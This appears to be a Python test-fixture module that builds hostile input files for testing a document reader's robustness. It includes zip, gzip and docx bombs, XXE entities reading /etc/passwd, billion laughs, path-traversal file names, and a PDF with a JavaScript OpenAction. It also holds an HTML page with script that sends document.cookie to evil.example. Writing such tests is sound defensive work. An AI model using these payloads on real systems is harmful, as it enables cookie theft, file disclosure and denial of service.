"""Hostile input files, made afresh and the same each time: what is cut, nested, swollen, disguised or lying in a page, PDF, mail, feed or archive.

Each file has one fault and an invented story that no other file tells, so that a reader's answer is about the fault alone. What is
expected of a reader stands beside each file in the tables at the end; `make_corpus` says how it is written.
"""

import gzip
import json
import struct
import textwrap
import zipfile
import zlib
from collections.abc import Callable, Iterable
from functools import partial
from io import BytesIO
from itertools import repeat
from pathlib import Path

_MEGABYTE = 1_000_000
_WORDS = b"a " * (_MEGABYTE // 2)
_BOMB = 200  # megabytes that a bomb swells to
_SHIPS = "Orlen Vesnar Tildur Kestova Marrowin Halbek Ostrel Pirnava Quellin Sarrow Dovrik Enneth Falkur".split()
_TOWNS = "Tarovsk Belmora Nurgash Lumery Kelbin Pordan Zhelm".split()
_MONTHS = "April May June July August".split()
_XML = '<?xml version="1.0" encoding="UTF-8"?>'
_EXTERNAL = '<!ENTITY outside SYSTEM "file:///etc/passwd">'


def make_corpus(folder: Path) -> dict[str, str]:
    """Write every hostile file into `folder`, which is made if it is missing; about 120 MB, the same bytes each time.

    Returns what is expected by file name: `read` (a report comes out and no leaving says that something failed), the reason code
    of the leaving, or several joined by `+` (`read+damaged`: reports come out, and a leaving tells that the rest could not be read).
    """
    folder.mkdir(parents=True, exist_ok=True)
    for name, (make, _) in _SMALL.items():
        (folder / name).write_bytes(make())
    for name, (write, _) in _LARGE.items():
        write(folder / name)
    return {name: outcome for name, (_, outcome) in (_SMALL | _LARGE).items()}


# Stories


def _tell_story(number: int) -> str:
    """Four plain sentences; every number tells another story."""
    ship, town = _SHIPS[number % len(_SHIPS)], _TOWNS[number % len(_TOWNS)]
    left, paid = _MONTHS[number % 5], _MONTHS[(number + 1) % 5]
    return (
        f"The crew of the {ship} left the yard at {town} on {number % 28 + 1} {left} 2031. "
        f"A guard said that {40 + number} men had signed for two years. "
        f"They will be paid in {paid}. "
        f"A clerk at the harbour office in {town} said that nobody had been told the wage before the ship left."
    )


def _tell(number: int) -> bytes:
    return f"{_tell_story(number)}\n".encode()


def _cut_in_half(whole: bytes) -> bytes:
    return whole[: len(whole) // 2]


# Archives


def _make_zip(members: Iterable[tuple[str, bytes]]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members:
            archive.writestr(_describe_member(name), content)
    return out.getvalue()


def _describe_member(name: str) -> zipfile.ZipInfo:
    """A member's header without the day and the system it was made on."""
    member = zipfile.ZipInfo(name)
    member.compress_type, member.create_system = zipfile.ZIP_DEFLATED, 3
    return member


def _nest_zips(depth: int) -> bytes:
    inner = _make_zip([("report.txt", _tell(1))])
    for level in range(1, depth):
        inner = _make_zip([(f"level-{level}.zip", inner)])
    return inner


def _make_zip_with_odd_names() -> bytes:
    return _make_zip((name, _tell(number)) for number, name in enumerate(["one.txt", "two.txt", "../../evil.txt", "a\nb.txt"], 2))


def _make_encrypted_zip() -> bytes:
    """A zip whose two headers say that its member is encrypted, by the lowest flag bit."""
    archive = bytearray(_make_zip([("report.txt", _tell(6))]))
    archive[6] |= 1
    archive[archive.index(b"PK\x01\x02") + 8] |= 1
    return bytes(archive)


def _write_bomb_zip(path: Path, member: str, chunks: Iterable[bytes], others: Iterable[tuple[str, bytes]] = ()) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in others:
            archive.writestr(_describe_member(name), content)
        with archive.open(_describe_member(member), "w") as out:
            out.writelines(chunks)


def _write_zip_bomb(path: Path) -> None:
    _write_bomb_zip(path, "report.txt", repeat(bytes(_MEGABYTE), _BOMB))


def _write_gzip_bomb(path: Path) -> None:
    with path.open("wb") as raw, gzip.GzipFile(filename="", mode="wb", compresslevel=6, fileobj=raw, mtime=0) as out:
        out.writelines(repeat(bytes(_MEGABYTE), _BOMB))


# Word files

_SCHEMAS = "http://schemas.openxmlformats.org"
_TYPES = (
    f'{_XML}<Types xmlns="{_SCHEMAS}/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    f'{_XML}<Relationships xmlns="{_SCHEMAS}/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{_SCHEMAS}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_PACKAGE = [("[Content_Types].xml", _TYPES.encode()), ("_rels/.rels", _RELATIONS.encode())]


def _make_word_document(text: str, doctype: str = "") -> bytes:
    return (f'{_XML}{doctype}<w:document xmlns:w="{_SCHEMAS}/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>').encode()


def _make_docx_with_entity() -> bytes:
    document = _make_word_document(f"{_tell_story(7)} &outside;", f"<!DOCTYPE w:document [{_EXTERNAL}]>")
    return _make_zip([*_PACKAGE, ("word/document.xml", document)])


def _write_docx_bomb(path: Path) -> None:
    head, tail = _make_word_document(f"{_tell_story(8)} HERE").split(b"HERE")
    _write_bomb_zip(path, "word/document.xml", [head, *repeat(_WORDS, _BOMB), tail], _PACKAGE)


# Feeds


def _make_feed(items: Iterable[str], doctype: str = "") -> bytes:
    return f'{_XML}\n{doctype}<rss version="2.0"><channel><title>Harbour Post</title>\n{"".join(items)}</channel></rss>\n'.encode()


def _make_item(number: int, more: str = "") -> str:
    address = f"https://post.example/{number}"
    return f"<item><title>Crew {number} leaves</title><link>{address}</link><description>{_tell_story(number)}{more}</description></item>\n"


def _make_billion_laughs() -> bytes:
    """Ten entities of ten each: a billion times one word, had anybody expanded them."""
    laughs = '<!ENTITY laugh0 "ha ">\n' + "".join(f'<!ENTITY laugh{level} "{f"&laugh{level - 1};" * 10}">\n' for level in range(1, 10))
    return _make_feed([_make_item(9, " &laugh9;")], f"<!DOCTYPE rss [\n{laughs}]>\n")


def _make_feed_with_entity() -> bytes:
    return _make_feed([_make_item(10, " &outside;")], f"<!DOCTYPE rss [{_EXTERNAL}]>\n")


def _make_endless_feed() -> bytes:
    """100,000 items in less than 10 MB, so that their number is tried and not the size of the file."""
    return _make_feed(f"<item><description>Crew {number} left Tarovsk. A guard saw {number % 90 + 10} men.</description></item>\n" for number in range(100_000))


def _make_cut_feed() -> bytes:
    return _cut_in_half(_make_feed(map(_make_item, range(11, 17))))


# Web pages


def _make_page(*paragraphs: str, head: str = "", body: str = "") -> str:
    told = "".join(f"<p>{paragraph}</p>\n" for paragraph in paragraphs)
    return f"<!DOCTYPE html>\n<html><head>{head}<title>The crew leaves</title></head>\n<body>{body}<article><h1>The crew leaves</h1>\n{told}</article></body></html>\n"


def _tell_page(number: int) -> bytes:
    return _make_page(_tell_story(number)).encode()


def _make_deep_page(depth: int) -> bytes:
    """A page whose heading stands free and whose story stands deeper than parsers go: the heading alone is not the report."""
    return _tell_page(17).replace(b"<p>", b"<div>" * depth + b"<p>").replace(b"</p>", b"</p>" + b"</div>" * depth)


def _make_page_with_scripts() -> bytes:
    body = '<script>document.title = "stolen"; fetch("https://evil.example/?" + document.cookie)</script><img src="x" onerror="alert(1)"><svg onload="alert(2)"></svg>'
    link = '<a href="javascript:alert(3)" onclick="alert(4)">Read the list of the crew.</a>'
    return _make_page(_tell_story(18), link, head="<script src='https://evil.example/x.js'></script>", body=body).encode()


def _make_page_with_nuls() -> bytes:
    return _tell_page(19).replace(b"guard", b"gu\0ard").replace(b"paid", b"\0paid\0")


def _make_page_declared_utf16() -> bytes:
    return _make_page(_tell_story(20), "“We left early — at dawn,” said José Müller.", head='<meta charset="utf-16">').encode("utf-8")


def _make_page_in_windows_1252() -> bytes:
    return _make_page(_tell_story(21), "“We left early — at dawn,” said José Müller. “It’s a café now.”").encode("windows-1252")


# PDFs

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 5 0 R >> >> >>"


def _make_pdf(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF with the objects in the order given and a true cross-reference table. Object 1 is the catalog."""
    out, offsets = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, content in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    rows = b"".join(b"%010d 00000 n \n" % offsets[number] for number in sorted(offsets))
    size, start = len(objects) + 1, len(out)
    return bytes(out) + b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, rows, size, trailer, start)


def _make_stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content)


def _print_story(number: int) -> bytes:
    """A page's content: the story in lines of type."""
    lines = b"".join(b"(%b) Tj T*\n" % line.encode("ascii") for line in textwrap.wrap(_tell_story(number), 80))
    return _make_stream(b"BT /F1 11 Tf 14 TL 72 720 Td\n%bET" % lines)


def _list_objects(number: int) -> dict[int, bytes]:
    """The objects of a PDF of one page with a story."""
    return {1: _CATALOG, 2: _PAGES, 3: _PAGE, 4: _print_story(number), 5: _FONT}


def _tell_pdf(number: int) -> bytes:
    return _make_pdf(_list_objects(number))


def _make_pdf_with_cycle() -> bytes:
    """A page tree whose only branch is its own root."""
    return _make_pdf(_list_objects(22) | {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"})


def _make_encrypted_pdf() -> bytes:
    """The standard handler with an owner's and a user's key that fit no password."""
    keys = b"/O <%b> /U <%b>" % (b"5a" * 32, b"c3" * 32)
    return _make_pdf(_list_objects(23) | {6: b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 %b >>" % keys}, b"/Encrypt 6 0 R /ID [<%b> <%b>]" % (b"07" * 16, b"07" * 16))


def _make_pdf_with_script() -> bytes:
    script = b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example/', true\\);) >>"
    return _make_pdf(_list_objects(24) | {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", 6: script})


def _make_scan() -> bytes:
    """A page that holds an image of 8 by 8 grey dots and no letter."""
    image = _make_stream(bytes(range(0, 256, 4)), b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8")
    return _make_pdf(_list_objects(0) | {4: _make_stream(b"q 400 0 0 400 100 200 cm /Im1 Do Q"), 5: image})


def _make_cut_pdf() -> bytes:
    """The catalog and the pages stand at the end, as many programs write them, and are cut off."""
    return _cut_in_half(_make_pdf(dict(reversed(_list_objects(25).items()))))


# Mail


def _make_message(number: int, content_type: str, body: bytes) -> bytes:
    head = (
        f"From: Harbour Post <desk@post.example>\nTo: reader@mail.example\nSubject: Crew {number} leaves\nDate: Tue, 06 May 2031 10:00:00 +0000\n"
        f"Message-ID: <{number}@post.example>\nMIME-Version: 1.0\nContent-Type: {content_type}\n\n"
    )
    return head.encode() + body


def _tell_message(number: int) -> bytes:
    return _make_message(number, "text/plain; charset=utf-8", _tell(number))


def _nest_messages(depth: int) -> bytes:
    message = _tell_message(26)
    for level in range(depth):
        message = _make_message(1000 + level, "message/rfc822", message)
    return message


def _make_part(content: bytes, more: str = "") -> bytes:
    return f"--seam\nContent-Type: text/plain; charset=utf-8\n{more}\n".encode() + content


def _make_open_message() -> bytes:
    """A message whose last boundary is missing: its part ends with the file."""
    return _make_message(27, 'multipart/mixed; boundary="seam"', _make_part(_tell(27)))


def _make_message_with_odd_attachment() -> bytes:
    attachment = _make_part(_tell(29), 'Content-Disposition: attachment; filename="../../../etc/cron.d/x"\n')
    return _make_message(28, 'multipart/mixed; boundary="seam"', _make_part(_tell(28)) + attachment + b"--seam--\n")


def _make_mailbox() -> bytes:
    """Three messages; a line in the head of the second is no header."""
    messages = [_tell_message(30), _tell_message(31).replace(b"\nTo: ", b"\nthis line is no header\nTo: "), _tell_message(32)]
    return b"".join(b"From desk@post.example Tue May  6 10:00:00 2031\n%b\n" % message for message in messages)


# Web archives


def _make_record(number: int, more: int = 0) -> bytes:
    """A response record, whose length is `more` bytes above the true one. Its time has passed: nothing can be collected in the future."""
    page = _tell_page(number)
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n%b" % (len(page), page)
    head = (
        f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-{number:012d}>\r\nWARC-Date: 2024-05-06T10:00:00Z\r\n"
        f"WARC-Target-URI: https://post.example/{number}\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {len(answer) + more}\r\n\r\n"
    )
    return head.encode() + answer + b"\r\n\r\n"


def _make_cut_warc() -> bytes:
    return _make_record(33) + _make_record(34) + _cut_in_half(_make_record(35))


def _make_lying_warc() -> bytes:
    """The second record says that it is longer than all that follows it, and so swallows the third."""
    return _make_record(36) + _make_record(37, more=5_000) + _make_record(38)


def _make_corrupt_warc_gz() -> bytes:
    """Three members, of which the second has 40 broken bytes in its middle."""
    first, second, third = (gzip.compress(_make_record(number), mtime=0) for number in (39, 40, 41))
    middle = len(second) // 2
    return first + second[: middle - 20] + b"\xff" * 40 + second[middle + 20 :] + third


# Tables


def _make_json_lines() -> bytes:
    lines = [
        json.dumps({"url": f"https://post.example/{number}", "title": f"Crew {number} leaves", "published": "2031-05-06", "text": _tell_story(number)}) for number in (42, 43, 44)
    ]
    lines[1] = lines[1][: len(lines[1]) // 2]
    return "\n".join([*lines, ""]).encode()


def _make_unequal_csv() -> bytes:
    """A sound row, one that ends before its text, and one with two cells too many."""
    rows = [
        "url,title,text",
        f'https://post.example/45,Crew 45 leaves,"{_tell_story(45)}"',
        "https://post.example/46",
        f'https://post.example/47,Crew 47 leaves,"{_tell_story(47)}",more,more',
    ]
    return "\n".join([*rows, ""]).encode()


# Plain text and what is none


def _make_text_with_controls() -> bytes:
    text = _tell(48).decode()
    for word, turned in {"guard": "\u202eguard\u202c", "clerk": "\u2066cl\u200berk\u2069", "paid": "pa\x07id", "wage": "\x1b[31mwage"}.items():
        text = text.replace(word, turned)
    return text.encode()


def _write_long_line(path: Path) -> None:
    with path.open("wb") as out:
        out.writelines(repeat(_WORDS, 100))


def _make_png() -> bytes:
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)), (b"IDAT", zlib.compress(b"\0\x80")), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks)


def _make_elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400000, 64, 0, 0, 64, 56, 0, 64, 0, 0)


_SMALL: dict[str, tuple[Callable[[], bytes], str]] = {
    "five-deep.zip": (partial(_nest_zips, 5), "nested"),
    "odd-names.zip": (_make_zip_with_odd_names, "read"),
    "encrypted.zip": (_make_encrypted_zip, "encrypted"),
    "cut.zip": (lambda: _cut_in_half(_make_zip([("report.txt", _tell(54))])), "damaged"),
    "entity.docx": (_make_docx_with_entity, "entities"),
    "billion-laughs.rss": (_make_billion_laughs, "entities"),
    "external-entity.rss": (_make_feed_with_entity, "entities"),
    "many-items.rss": (_make_endless_feed, "read"),
    "cut.rss": (_make_cut_feed, "read+damaged"),
    "deep.html": (partial(_make_deep_page, 100_000), "damaged"),
    "scripts.html": (_make_page_with_scripts, "read"),
    "nuls.html": (_make_page_with_nuls, "read"),
    "declared-utf16.html": (_make_page_declared_utf16, "read"),
    "windows-1252.html": (_make_page_in_windows_1252, "read"),
    "page.html": (partial(_tell_pdf, 49), "read"),
    "x.pdf": (partial(_tell_page, 50), "read"),
    "cycle.pdf": (_make_pdf_with_cycle, "damaged"),
    "encrypted.pdf": (_make_encrypted_pdf, "encrypted"),
    "script.pdf": (_make_pdf_with_script, "read"),
    "scan.pdf": (_make_scan, "no-text"),
    "cut.pdf": (_make_cut_pdf, "damaged"),
    "nested.eml": (partial(_nest_messages, 200), "nested"),
    "open-boundary.eml": (_make_open_message, "read"),
    "odd-attachment.eml": (_make_message_with_odd_attachment, "read"),
    "broken-header.mbox": (_make_mailbox, "read"),
    "cut.warc": (_make_cut_warc, "read+damaged"),
    "lying-length.warc": (_make_lying_warc, "read+damaged"),
    "corrupt.warc.gz": (_make_corrupt_warc_gz, "read+damaged"),
    "broken-line.jsonl": (_make_json_lines, "read+damaged"),
    "unequal-rows.csv": (_make_unequal_csv, "read+damaged"),
    "utf16-without-mark.txt": (lambda: _tell(51).decode().encode("utf-16-le"), "binary"),
    "controls.txt": (_make_text_with_controls, "read"),
    "line\nbreak.txt": (partial(_tell, 52), "read"),
    "report-\u202egpj.txt": (partial(_tell, 53), "read"),
    "picture.png": (_make_png, "format"),
    "program.txt": (_make_elf, "binary"),
    "empty.txt": (bytes, "empty"),
    "blanks.txt": (lambda: b" \t\n" * 40, "empty"),
}
_LARGE: dict[str, tuple[Callable[[Path], None], str]] = {
    "bomb.zip": (_write_zip_bomb, "too-large"),
    "bomb.txt.gz": (_write_gzip_bomb, "too-large"),
    "bomb.docx": (_write_docx_bomb, "too-large"),
    "long-line.txt": (_write_long_line, "too-large"),
}
